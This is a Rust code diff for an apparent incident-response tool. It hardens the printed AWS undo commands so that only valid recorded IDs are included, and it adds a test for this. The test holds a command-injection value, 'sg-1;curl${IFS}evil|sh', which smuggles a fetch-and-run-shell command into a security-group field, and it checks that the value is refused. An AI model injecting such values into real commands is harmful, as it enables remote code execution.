@@ -15,6 +15,7 @@ use crate::outcome::{Execution, Outcome, Status};
 use crate::plan::Plan;
 use crate::playbook::PROTECTED_RULE;
 use crate::ports::Notification;
+use crate::shell::{self, Command};
 use crate::tags;
 
 /// The overall result of handling one incident.
@@ -462,12 +463,11 @@ impl Report {
             tags::ISOLATION
         );
         for (eni, groups) in &self.original_groups {
-            let _ = writeln!(
-                b,
-                "    aws ec2 modify-network-interface-attribute --region {} --network-interface-id {eni} --groups {}",
-                self.region,
-                groups.join(" ")
-            );
+            let restore = Command::new("aws ec2 modify-network-interface-attribute")
+                .arg("--region", shell::REGION, &self.region)
+                .arg("--network-interface-id", shell::NETWORK_INTERFACE, eni)
+                .args("--groups", shell::SECURITY_GROUP, groups);
+            let _ = writeln!(b, "    {}", restore.or_note(|c| c));
         }
         let _ = writeln!(
             b,
@@ -672,6 +672,43 @@ pub(crate) mod tests {
         // Identifiers in the next steps are code: copied as they are.
         let steps = chat["content"]["nextSteps"].to_string();
         assert!(steps.contains("`i-1|‹@U1›`"), "{steps}");
+    }
+
+    #[test]
+    fn the_release_commands_print_only_valid_recorded_ids() {
+        use crate::shell::testing::{assert_pasteable, HOSTILE};
+        let (_, report) = contained("t");
+        let release = |region: &str, eni: &str, group: &str| {
+            let mut r = report.clone();
+            r.region = region.into();
+            r.original_groups = BTreeMap::from([(
+                eni.to_string(),
+                vec!["sg-0123456789abcdef0".to_string(), group.to_string()],
+            )]);
+            let mut b = String::new();
+            r.write_undo(&mut b);
+            b
+        };
+        let (eni, group) = ("eni-0123456789abcdef0", "sg-12345678");
+        let ordinary = release("eu-west-1", eni, group);
+        assert!(ordinary.contains(
+            "\n    aws ec2 modify-network-interface-attribute --region eu-west-1 \
+             --network-interface-id eni-0123456789abcdef0 --groups sg-0123456789abcdef0 sg-12345678\n"
+        ));
+        for hostile in HOSTILE {
+            for text in [
+                release(hostile, eni, group),
+                release("eu-west-1", hostile, group),
+                release("eu-west-1", eni, hostile),
+            ] {
+                assert!(text.contains("\n    (not printed: "), "{text}");
+                assert_pasteable(&text, &ordinary);
+            }
+        }
+        let no = release("eu-west-1", eni, "sg-1;curl${IFS}evil|sh");
+        assert!(no.contains(
+            r#"(not printed: "sg-1;curl${IFS}evil|sh" is not a valid security group id)"#
+        ));
     }
 
     #[test]
